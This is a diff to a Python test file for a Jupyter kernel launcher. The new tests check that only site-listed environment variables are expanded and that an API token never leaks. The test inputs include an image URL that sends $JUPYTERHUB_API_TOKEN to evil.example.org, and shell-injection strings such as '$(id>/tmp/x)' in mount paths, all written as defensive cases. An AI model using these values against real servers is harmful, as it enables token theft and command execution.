@@ -24,6 +24,7 @@ from jupyter_asgard.launch.mounts import Mount
 REPO = Path(__file__).resolve().parent.parent
 
 ENV = {"USER": "alice", "HOME": "/home/alice", "PROJECT": "vision", "SCRATCH": "/netscratch/alice"}
+LISTED = ("PROJECT", "SCRATCH", "NOPE", "A", "B", "USERX")  # what the site's expandable_variables lists in these tests
 IMAGE = "/enroot/nvcr.io_nvidia_pytorch_23.12-py3.sqsh"
 ASGARD_PYTORCH = {
     "image": IMAGE,
@@ -33,7 +34,7 @@ ASGARD_PYTORCH = {
 
 
 def parse(values: dict[str, Any], environ: dict[str, str] | None = None) -> LaunchConfig:
-    return LaunchConfig.parse(values, ENV if environ is None else environ)
+    return LaunchConfig.parse(values, ENV if environ is None else environ, LISTED)
 
 
 def problems_of(values: dict[str, Any], environ: dict[str, str] | None = None) -> list[str]:
@@ -188,6 +189,51 @@ def test_unknown_variables_are_reported(values: dict[str, Any], problem: str) ->
 def test_every_unknown_variable_is_reported() -> None:
     problems = problems_of({"image": IMAGE, "mounts": ["/$A/$USER/${B}:/data"]})
     assert problems == ["mounts: $A is not set on the Jupyter server", "mounts: $B is not set on the Jupyter server"]
+
+
+SECRET = "hub-token-5e1f"  # the server's JUPYTERHUB_API_TOKEN in these tests
+
+
+@pytest.mark.parametrize(
+    ("key", "values"),
+    [
+        ("image", {"image": "docker://evil.example.org#x/${JUPYTERHUB_API_TOKEN}:latest"}),
+        ("workdir", {"image": IMAGE, "workdir": "/w/$JUPYTERHUB_API_TOKEN"}),
+        ("mounts", {"image": IMAGE, "mounts": ["/netscratch/$JUPYTERHUB_API_TOKEN:/data"]}),
+    ],
+)
+def test_a_variable_the_site_does_not_list_is_refused_by_name_and_its_value_is_nowhere(
+    key: str, values: dict[str, Any]
+) -> None:
+    config, problems = LaunchConfig.check(values, {**ENV, "JUPYTERHUB_API_TOKEN": SECRET}, LISTED)
+    assert problems[0] == (
+        f"{key}: $JUPYTERHUB_API_TOKEN is not a variable kernel settings may use: only $USER, $HOME and the "
+        "variables the site lists are expanded; write the value itself, or have the site add "
+        "'JUPYTERHUB_API_TOKEN' to c.PyxisProvisioner.expandable_variables"
+    )
+    assert SECRET not in json.dumps(config.to_json()) + " ".join(problems)
+
+
+def test_without_a_site_list_only_user_and_home_are_expanded() -> None:
+    config, problems = LaunchConfig.check({"image": IMAGE, "workdir": "$HOME/$USER/$PROJECT"}, ENV)
+    assert config.workdir == "/home/alice/alice/$PROJECT"
+    assert len(problems) == 1, problems
+    assert problems[0].startswith("workdir: $PROJECT is not a variable kernel settings may use")
+
+
+@pytest.mark.parametrize("path", ["/d/$[a[$(id>/tmp/x)]]", "/d/${X-/etc}", "/d/$$"])
+def test_a_dollar_left_after_expansion_is_refused_in_a_mount(path: str) -> None:
+    problems = problems_of({"image": IMAGE, "mounts": [f"{path}/$USER:/data"]})
+    assert len(problems) == 1 and "Pyxis cannot mount a path containing '$'" in problems[0], problems
+
+
+@pytest.mark.parametrize("value", ["/d/$[a[$(id>/tmp/x)]]", "/d/$HOME", "/d/${X-/etc}"])
+def test_a_listed_variable_whose_value_holds_a_dollar_is_refused(value: str) -> None:
+    problems = problems_of({"image": IMAGE, "mounts": ["$PROJECT:/data"]}, {**ENV, "PROJECT": value})
+    assert problems == [
+        "mounts: $PROJECT has a value that cannot be used in a path (a '$', a control character, or over "
+        "4096 characters)"
+    ]
 
 
 def test_tilde_without_home_is_not_expanded() -> None:
